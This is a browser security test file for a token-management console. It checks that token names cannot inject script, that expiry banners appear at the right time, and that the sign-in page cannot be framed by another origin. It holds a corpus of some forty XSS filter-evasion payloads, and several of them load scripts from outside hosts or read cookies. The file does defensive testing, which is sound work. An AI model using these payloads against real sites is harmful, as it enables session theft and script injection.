/**
 * docs/security.md, items 40, 42 and 37, in real headless Chromium against the real server binary,
 * beyond what console.test.ts already checks (six XSS payloads; a banner at 3 d and none at
 * 8 d; the console refusing to be framed):
 *
 *   40  an OWASP XSS-filter-evasion corpus as token names: no `dialog` event, nothing but text
 *       nodes in the name cells, each cell's textContent equal to the name the API stores;
 *   42  the banner and the state badge at exactly 7 d − 1 min (expiring, banner) and
 *       7 d + 1 min (active, no banner);
 *   37  the sign-in page (server-rendered, not the console) framed from another origin stays
 *       blank and Chromium reports the frame-ancestors violation.
 */
import { createServer, type Server } from 'node:http';
import { DAY_MS, SESSION_COOKIE } from '@latchkey/contract';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { describeInBrowser, launchChromium, openContext } from './support/chromium.js';
import { ensureBuilt, sessionApi, startConsoleServer, type RunningServer } from './support/server.js';
import { freePort } from '../support/server-process.mjs';

const MINUTE_MS = 60_000;

/**
 * From the OWASP XSS Filter Evasion Cheat Sheet (entries that fit the 64-character name limit
 * and contain no control characters, which names refuse), plus a few framework-template ones.
 */
const XSS_CORPUS = [
  '<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>'.slice(0, 64),
  "javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>".slice(0, 64),
  '<IMG SRC="javascript:alert(\'XSS\');">',
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097">',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74>',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=//xss.rocks/.j>',
  '<iframe src=http://xss.rocks/scriptlet.html <',
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
  '<svg/onload=alert(\'XSS\')>',
  '<svg><script>alert(1)</script></svg>',
  '<details open ontoggle=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  "';alert(String.fromCharCode(88,83,83))//",
  '\\";alert(\'XSS\');//',
  "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1)">',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')">',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
  '<object data="javascript:alert(1)">',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">click</a>',
  '<x onclick=alert(1)>click me',
  '<math><mtext><img src=x onerror=alert(1)>',
  '<base href="javascript:alert(1)//">',
  '<form action=javascript:alert(1)><button>go',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '{{constructor.constructor(\'alert(1)\')()}}',
  '${alert(1)}',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
];

let server: RunningServer;
let browser: Browser;
let accounts = 0;

async function signedIn() {
  const context = await openContext(browser, server.origin);
  const page = await context.newPage();
  await page.goto(server.signInLink(`security${++accounts}-${Date.now()}@example.test`));
  await page.getByRole('button', { name: 'Sign in' }).click();
  await page.waitForURL(`${server.origin}/`);
  const sessionId = (await context.cookies()).find((cookie) => cookie.name === SESSION_COOKIE)!.value;
  return { context, page, sessionId, api: await sessionApi(server.origin, sessionId) };
}

async function openTokens(page: Page) {
  await page.goto('/settings/tokens');
  await page.getByRole('heading', { name: 'Personal Access Tokens' }).waitFor();
}

const rowOf = (page: Page, name: string) => page.locator('tbody tr', { has: page.getByRole('rowheader', { name, exact: true }) });

// docs/security.md, items 37, 40 and 42
describeInBrowser('console security properties in Chromium', () => {
  beforeAll(async () => {
    ensureBuilt();
    [server, browser] = await Promise.all([startConsoleServer(), launchChromium()]);
  }, 120_000);
  afterAll(async () => {
    await browser?.close();
    await server?.stop();
  });

  // docs/security.md, item 40
  it(`${XSS_CORPUS.length} OWASP filter-evasion payloads as token names render as text; no dialog fires`, async () => {
    expect(new Set(XSS_CORPUS).size).toBe(XSS_CORPUS.length);
    const { context, page, api, sessionId } = await signedIn();
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    try {
      for (const [index, name] of XSS_CORPUS.entries()) {
        // A few expire soon, so the payloads are rendered in the banner as well.
        await api.createToken(name, index % 10 === 0 ? { expiresAt: new Date(Date.now() + 2 * DAY_MS).toISOString() } : {});
      }
      const stored = (await (await fetch(`${server.origin}/api/v1/tokens`, { headers: { cookie: `${SESSION_COOKIE}=${sessionId}` } })).json()) as {
        tokens: Array<{ name: string }>;
      };
      expect(stored.tokens.map((t) => t.name).sort()).toEqual([...XSS_CORPUS].sort());

      await openTokens(page);
      await page.locator('th.token-name').nth(XSS_CORPUS.length - 1).waitFor();
      // Give anything injected (onload, onerror, ontoggle, refresh) its chance to run.
      await page.mouse.move(200, 300);
      for (const cell of await page.locator('th.token-name').all()) await cell.hover();
      await page.waitForTimeout(500);

      const cells = await page.locator('th.token-name').evaluateAll((elements) =>
        elements.map((element) => ({
          text: element.textContent,
          onlyText: [...element.childNodes].every((node) => node.nodeType === Node.TEXT_NODE),
        })),
      );
      expect(cells).toHaveLength(XSS_CORPUS.length);
      expect(cells.map((cell) => cell.text).sort()).toEqual(stored.tokens.map((t) => t.name).sort());
      expect(cells.filter((cell) => !cell.onlyText)).toEqual([]);
      const bannerNames = await page.getByRole('region', { name: 'Expiring tokens' }).locator('strong').allTextContents();
      expect(bannerNames.sort()).toEqual(XSS_CORPUS.filter((_, index) => index % 10 === 0).sort());
      // Nothing the payloads name exists anywhere in the page.
      expect(await page.locator('main img, main svg, main iframe, main object, main embed, main script, main details, main math, main x, base, meta[http-equiv]').count()).toBe(0);
      expect(page.url()).toBe(`${server.origin}/settings/tokens`);
      expect(dialogs).toEqual([]);
    } finally {
      await context.close();
    }
  });

  // docs/security.md, item 42
  it('banner and "Expiring soon" at 7 d − 1 min; "Active" and no banner at 7 d + 1 min', async () => {
    const { context, page, api } = await signedIn();
    try {
      await api.createToken('seven days plus a minute', { expiresAt: new Date(Date.now() + 7 * DAY_MS + MINUTE_MS).toISOString() });
      for (const path of ['/settings/tokens', '/']) {
        await page.goto(path);
        await page.locator('main h1').waitFor();
        if (path === '/settings/tokens') {
          await rowOf(page, 'seven days plus a minute').waitFor();
          expect(await rowOf(page, 'seven days plus a minute').locator('.badge').textContent()).toBe('Active');
        }
        await page.waitForTimeout(300);
        expect(await page.getByRole('region', { name: 'Expiring tokens' }).count(), path).toBe(0);
      }

      await api.createToken('seven days minus a minute', { expiresAt: new Date(Date.now() + 7 * DAY_MS - MINUTE_MS).toISOString() });
      for (const path of ['/settings/tokens', '/', '/namespaces']) {
        await page.goto(path);
        const banner = page.getByRole('region', { name: 'Expiring tokens' });
        await banner.waitFor();
        const text = await banner.textContent();
        expect(text).toContain('seven days minus a minute');
        expect(text).not.toContain('seven days plus a minute');
      }
      await openTokens(page);
      await rowOf(page, 'seven days minus a minute').waitFor();
      expect(await rowOf(page, 'seven days minus a minute').locator('.badge').textContent()).toBe('Expiring soon');
      expect(await rowOf(page, 'seven days plus a minute').locator('.badge').textContent()).toBe('Active');
    } finally {
      await context.close();
    }
  });

  // docs/security.md, item 37
  it('the sign-in page framed by another origin stays blank, with a frame-ancestors violation', async () => {
    const framerPort = await freePort();
    const framer: Server = createServer((_request, reply) => {
      reply.writeHead(200, { 'content-type': 'text/html' });
      reply.end(`<!doctype html><title>framer</title><iframe id="victim" src="${server.origin}/auth/sign-in" width="600" height="400"></iframe>`);
    });
    await new Promise<void>((resolve) => framer.listen(framerPort, '127.0.0.1', resolve));
    const context = await openContext(browser, server.origin);
    try {
      const page = await context.newPage();
      const messages: string[] = [];
      page.on('console', (message) => messages.push(message.text()));
      await page.goto(`http://127.0.0.1:${framerPort}/`);
      await page.locator('#victim').waitFor();
      await expect.poll(() => messages.join('\n'), { timeout: 10_000 }).toMatch(/frame-ancestors/);
      await page.waitForTimeout(300);
      const frame = page.frames().find((candidate) => candidate !== page.mainFrame())!;
      const framedText = await frame.evaluate(() => document.body?.innerText ?? '').catch(() => '');
      expect(framedText).not.toContain('Sign in');
      // The control: the same page loads normally at the top level.
      await page.goto(`${server.origin}/auth/sign-in`);
      expect(await page.locator('h1').textContent()).toBe('Sign in to Latchkey');
    } finally {
      await context.close();
      await new Promise((resolve) => framer.close(resolve));
    }
  });
});
